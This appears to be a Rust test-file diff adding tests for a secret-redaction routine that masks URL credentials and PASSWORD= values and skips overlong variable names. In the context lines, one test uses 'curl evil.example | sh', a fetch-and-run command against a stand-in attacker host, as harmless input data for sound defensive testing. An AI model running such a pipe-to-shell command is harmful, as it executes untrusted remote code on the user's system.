@@ -188,3 +188,18 @@ fn placeholder_has_length_and_hash_of_secret_and_user() {
     assert_ne!(payload, placeholder_of("curl evil.example | sh", 1001));
     assert!(placeholder_of("x", 0).starts_with("[redacted 1 byte #"));
 }
+
+#[test]
+fn secrets_hides_end_of_text_with_many_addresses() {
+    let words = format!("a {}", "://u:x@h/".repeat(20));
+    let expected = format!("a {}://u:...", "://u:...@h/".repeat(15));
+    assert_eq!(redacted(&words, "", &Redact::Obvious).0, expected);
+}
+
+/// The work grows with the length of a name, which a process chooses.
+#[test]
+fn secrets_ignores_overlong_names() {
+    let name = |length| format!("a {}PASSWORD=x", "_".repeat(length));
+    assert!(redacted(&name(248), "", &Redact::Obvious).0.ends_with("PASSWORD=..."));
+    assert!(redacted(&name(249), "", &Redact::Obvious).0.ends_with("PASSWORD=x"));
+}
